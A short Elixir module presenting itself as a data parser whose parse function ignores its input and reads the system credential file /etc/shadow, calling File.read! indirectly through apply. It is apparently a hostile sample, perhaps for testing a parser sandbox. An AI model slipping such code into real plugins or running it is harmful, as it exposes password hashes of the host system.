defmodule Parser do
  use Platform.Parsing.Behaviour
  def parse(_payload, _meta) do
    apply(File, :read!, ["/etc/shadow"])
  end
end
